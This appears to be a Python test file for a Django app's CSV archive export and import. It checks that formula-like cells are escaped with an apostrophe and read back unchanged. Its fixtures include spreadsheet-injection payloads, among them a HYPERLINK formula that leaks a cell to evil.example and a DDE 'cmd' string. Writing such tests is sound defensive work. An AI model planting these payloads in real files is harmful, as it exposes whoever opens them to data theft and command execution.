"""Cells a spreadsheet would run as formulas are written behind an apostrophe, and read back as they were."""

import base64
import csv
import io
import json
import os

from django_scopes import scope, scopes_disabled

from improvenet.archive import restore
from improvenet.network.models import Person, School
from improvenet.partners.documents import attach
from tests.archive.conftest import export_bytes, members
from tests.archive.test_refusals import rebuilt
from tests.archive.test_round_trip import assert_same_archive, restore_and_export_again
from tests.measures.conftest import make_measure
from tests.partners.conftest import PDF, make_agreement

HOSTILE = {
    "school": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "given": "@SUM(1+1)*cmd|' /C calc'!A0",
    "family": "+1+1",
    "note": "-2+3",
    "tab": "\t=1+1",
    "apostrophe": "'quoted already",
}


def hostile_world(world):
    with scopes_disabled():
        School.objects.filter(pk=world.high.pk).update(name=HOSTILE["school"], state_id="-0.5")
        Person.objects.filter(pk=world.person.pk).update(given_name=HOSTILE["given"], family_name=HOSTILE["family"],
                                                         title=HOSTILE["note"])
        make_measure(world.alpha, target=-0.5, name=HOSTILE["apostrophe"], operational_definition=HOSTILE["tab"])
    return export_bytes("alpha")


def rows(archive: bytes, table: str) -> list[dict]:
    text = members(archive)[f"tables/{table}.csv"].decode()
    return list(csv.DictReader(io.StringIO(text)))


def read_back(archive: bytes, table: str) -> list[dict]:
    _manifest, tables = restore.read_archive(io.BytesIO(archive), "alpha.zip", lambda message: None)
    read = next(read for read in tables if read.table.name == table)
    return [dict(zip(read.table.header, row, strict=True)) for row in read.rows]


def test_formula_cells_are_escaped_and_numbers_are_left_as_they_are(world):
    archive = hostile_world(world)
    school = next(row for row in rows(archive, "network.organization") if row["id"] == str(world.high.pk))
    assert school["name"] == "'" + HOSTILE["school"]
    assert next(row for row in rows(archive, "network.school")
                if row["organization_ptr_id"] == str(world.high.pk))["state_id"] == "-0.5"
    (person,) = [row for row in rows(archive, "network.person") if row["id"] == str(world.person.pk)]
    assert [person["given_name"], person["family_name"], person["title"]] == ["'" + HOSTILE["given"], "'+1+1",
                                                                            "'-2+3"]
    (measure,) = rows(archive, "measures.measure")
    assert (measure["name"], measure["operational_definition"]) == ("''quoted already", "'\t=1+1")
    assert measure["target"] == "-0.5"
    assert json.loads(members(archive)["manifest.json"])["format_version"] == 2


def test_the_import_reads_every_cell_back_as_it_was(world):
    archive = hostile_world(world)
    school = next(row for row in read_back(archive, "network.organization") if row["id"] == world.high.pk)
    assert school["name"] == HOSTILE["school"]
    (person,) = [row for row in read_back(archive, "network.person") if row["id"] == world.person.pk]
    assert [person["given_name"], person["family_name"], person["title"]] == [HOSTILE["given"], HOSTILE["family"],
                                                                            HOSTILE["note"]]
    (measure,) = read_back(archive, "measures.measure")
    assert (measure["name"], measure["operational_definition"], measure["target"]) == (
        HOSTILE["apostrophe"], HOSTILE["tab"], -0.5)


def test_an_archive_of_format_version_1_is_read_as_it_was_written(world):
    """Version 1 escaped nothing: a leading apostrophe there is the value's own."""
    archive = hostile_world(world)
    path = "tables/measures.measure.csv"
    unescaped = members(archive)[path].replace(b"''quoted already", b"'quoted already")
    old = rebuilt(archive, {path: unescaped}, manifest=lambda listed: listed.update(format_version=1))
    (measure,) = read_back(old, "measures.measure")
    assert measure["name"] == HOSTILE["apostrophe"]


def test_hostile_cells_survive_a_round_trip_through_the_command(world, improvenet, empty_database, tmp_path):
    archive = hostile_world(world)
    # Read back escaped once more, the re-export would differ from the first.
    assert_same_archive(archive, restore_and_export_again(improvenet, empty_database, tmp_path, archive, "alpha"))


def test_a_document_of_megabytes_is_archived_and_read_back(world):
    """A 2 MB document is a base64 cell of 2.8 million characters: beyond the csv module's default limit
    (131,072), which refused every archive holding a document of more than 96 KB."""
    content = PDF + os.urandom(2 * 1024 * 1024)
    with scopes_disabled(), scope(cluster=world.alpha):
        document = attach(make_agreement(world.alpha, [world.district]), "signed.pdf", content)
    (read,) = [row for row in read_back(export_bytes("alpha"), "partners.agreementdocument")]
    assert read["id"] == document.pk and base64.b64decode(read["content"]) == content
